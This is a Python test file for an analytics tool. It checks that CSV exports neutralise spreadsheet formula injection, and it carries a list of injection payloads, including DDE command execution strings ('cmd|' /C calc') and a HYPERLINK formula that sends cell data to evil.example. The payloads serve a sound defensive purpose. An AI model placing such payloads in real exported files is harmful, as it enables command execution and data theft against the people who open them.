"""CSV written for people never carries a live spreadsheet formula (OWASP "CSV injection"):
text cells and headers starting with = + - @ tab CR (also after spaces, or full-width) get a
leading ', numbers stay numbers."""

from __future__ import annotations

import csv
import re

import pandas as pd
import pytest
from typer.testing import CliRunner

from zzanalytics.cli import app
from zzanalytics.outputs import TRIGGERS, neutralise, write_table

runner = CliRunner()

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
)


def live(cell: str) -> bool:
    """True when a spreadsheet could read ``cell`` as a formula (a plain number cannot be one)."""
    lead = cell.lstrip(" \u3000\u00a0")
    if re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell.strip()):
        return False
    return bool(cell) and (cell[0] in TRIGGERS or (bool(lead) and lead[0] in TRIGGERS))


def cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised(payload):
    out = neutralise(payload)
    assert out == "'" + payload and not live(out)


@pytest.mark.parametrize("number", ["-3", "+1.5", "-1.5e3", "0", "12", "-0.25"])
def test_plain_numbers_written_as_text_stay_numbers(number):
    assert neutralise(number) == number


def test_write_table_neutralises_text_cells_and_headers_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            '=HYPERLINK("x")': list(PAYLOADS[:4]),
            "cause": list(PAYLOADS[4:8]),
            "n": [-3, 4, -5, 0],
            "x": [-1.5, 2.0, float("nan"), -0.25],
            "code": ["-3", "620102001", "A-1", "-"],
        }
    )
    path = write_table(frame, tmp_path / "t.csv")
    rows = cells(path)
    assert rows[0][0] == '\'=HYPERLINK("x")'
    for row in rows:
        for cell in row:
            assert not live(cell), (cell, row)
    back = pd.read_csv(path)
    assert back["n"].tolist() == [-3, 4, -5, 0] and back["n"].dtype.kind == "i"
    assert back["x"].iloc[0] == -1.5 and back["x"].iloc[3] == -0.25
    assert back["code"].astype(str).tolist()[:3] == ["-3", "620102001", "A-1"]


def test_zz_forecast_out_neutralises_keys_from_a_counts_file(tmp_path):
    periods = pd.date_range("2021-01-01", periods=36, freq="MS").strftime("%Y-%m")
    keys = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "fire"]
    frame = pd.concat(
        [pd.DataFrame({"category": k, "period": periods, "count": 5 + i}) for i, k in enumerate(keys)]
    )
    src = tmp_path / "c.csv"
    frame.to_csv(src, index=False)
    out = tmp_path / "f.csv"
    result = runner.invoke(
        app, ["forecast", "--counts", str(src), "--horizon", "2", "--out", str(out), "--workers", "1"]
    )
    assert result.exit_code == 0, result.output
    rows = cells(out)
    assert all(not live(c) for r in rows for c in r), rows[:5]
    written = {r[0] for r in rows[1:]}
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'+1+1", "fire"} <= written
    back = pd.read_csv(out)
    assert pd.api.types.is_float_dtype(back["mean"]) and (back["mean"] > 0).all()


def test_zz_quarantine_out_neutralises_values_and_raw_rows(tmp_path):
    src = tmp_path / "inc.csv"
    rows = [(f"Q{i}", "not a date", p) for i, p in enumerate(PAYLOADS)]
    pd.DataFrame(rows, columns=["编号", "时间", "原因"]).assign(类别="fire", 街道="620102001").to_csv(
        src, index=False, lineterminator="\r\n"
    )
    mapping = tmp_path / "m.toml"
    mapping.write_text(
        '[source]\ntable = "incidents"\n[columns]\nincident_id = "编号"\noccurred_at = "时间"\n'
        'category = "类别"\narea_code = "街道"\ncause = "原因"\n',
        encoding="utf-8",
    )
    store = tmp_path / "s.duckdb"
    assert (
        runner.invoke(app, ["ingest", str(src), "--mapping", str(mapping), "--store", str(store)]).exit_code
        == 0
    )
    # the offending value is the date; put the payloads in the date column as well
    src2 = tmp_path / "inc2.csv"
    pd.DataFrame({"编号": [f"R{i}" for i in range(len(PAYLOADS))], "时间": list(PAYLOADS)}).assign(
        原因="x", 类别="fire", 街道="620102001"
    ).to_csv(src2, index=False, lineterminator="\r\n")
    assert (
        runner.invoke(app, ["ingest", str(src2), "--mapping", str(mapping), "--store", str(store)]).exit_code
        == 0
    )
    out = tmp_path / "q.csv"
    result = runner.invoke(app, ["quarantine", "--store", str(store), "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = cells(out)
    assert len(rows) == 1 + 2 * len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert not live(cell), (cell, row)
    values = [r[rows[0].index("value")] for r in rows[1:]]
    assert sum(v.startswith("'") for v in values) >= len(PAYLOADS) - 3  # the payload dates, neutralised
    back = pd.read_csv(out)
    assert back["row"].dtype.kind == "i"  # numbers stay numbers


def test_readme_says_so():
    from zzanalytics.config import CHECKOUT_DIR

    readme = (CHECKOUT_DIR / "README.md").read_text(encoding="utf-8")
    assert "formula" in readme and "Personal data and outputs" in readme
